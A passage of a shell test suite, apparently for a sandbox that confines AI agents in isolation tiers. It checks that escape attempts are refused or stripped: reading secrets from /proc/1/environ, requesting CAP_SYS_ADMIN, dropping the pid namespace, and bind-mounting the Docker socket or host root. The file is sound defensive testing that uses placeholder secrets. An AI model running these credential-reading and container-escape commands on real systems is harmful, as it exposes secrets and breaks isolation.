    attack plain /bin/probe env
    assert_contains "$OUT" FAKE-AWS "plain env"
    local t
    for t in 0 1 2 3; do
        attack $t /bin/sh -c '/bin/probe env; cat /proc/1/environ | tr "\0" "\n"'
        assert_not_contains "$OUT" FAKE "tier $t secret in env"
        assert_not_contains "$OUT" SSH_AUTH_SOCK "tier $t SSH_AUTH_SOCK"
        assert_not_contains "$OUT" HARMLESS=visible "tier $t: the environment is an allow-list"
        assert_contains "$OUT" PATH= "tier $t keeps PATH"
    done
    ATTACK_ANN='{"io.agentcage.env-allow": "AWS_SECRET_ACCESS_KEY"}'
    attack 1 /bin/probe env
    assert_contains "$OUT" AWS_SECRET_ACCESS_KEY=FAKE-AWS "env-allow keeps it"
    assert_not_contains "$OUT" FAKE-GH "env-allow keeps only the named one"
    return 0
}

# ---------------------------------------------------------------- refusals

test_refused_requests() {
    # plain: each of these works
    local caps='["CAP_SYS_ADMIN"]'
    ATTACK_CFG=(".process.capabilities = {bounding: $caps, effective: $caps, permitted: $caps}")
    attack plain /bin/probe syscall mount /tmp
    assert_eq "$OUT" ok "plain with CAP_SYS_ADMIN mounts"
    attack 1 /bin/true; assert_refused CAP_SYS_ADMIN
    ATTACK_CFG=('.linux.namespaces |= map(select(.type != "pid"))')
    attack plain /bin/sh -c 'ls /proc | grep -c "^[0-9]"'
    [ "$OUT" -gt 20 ] || fail "plain host pid ns sees $OUT processes"
    attack 0 /bin/true; assert_refused "pid namespace"
    ATTACK_CFG=("$(bind_mount /var/run/docker.sock /var/run/docker.sock rw)")
    attack 1 /bin/true; assert_refused /var/run/docker.sock
    ATTACK_CFG=("$(bind_mount /host / ro)")
    attack plain /bin/cat /host/etc/hostname
    assert_eq "$OUT" "$(cat /etc/hostname)" "plain reads the host's /"
    attack 2 /bin/true; assert_refused "mount of /"
    ATTACK_CFG=("$(bind_mount /mnt/a /etc ro)")
    attack 3 /bin/true; assert_refused /etc
    return 0
}

test_tier3_needs_approval() {
    CID="$(new_id)"
    make_bundle "$CID" /bin/echo approved-run
    cfg '.annotations = {"io.agentcage.tier": "3"}'
    [ -z "${ATTACK_KERNEL:-}" ] || cfg --arg k "$ATTACK_KERNEL" '.annotations["io.agentcage.kernel"] = $k'
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_ne "$RC" 0 "tier 3 without approval"
    assert_contains "$OUT" "no approval" "tier 3 refusal"
    assert_not_contains "$OUT" approved-run "ran without approval"
    [ -e "$ROOT/$CID" ] && fail "state left after refused approval"
    ok trt approve "$CID"
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_eq "$OUT" approved-run "tier 3 with approval"
    assert_contains "$(cat "$T/state/audit.jsonl")" approval-used "audited"
}
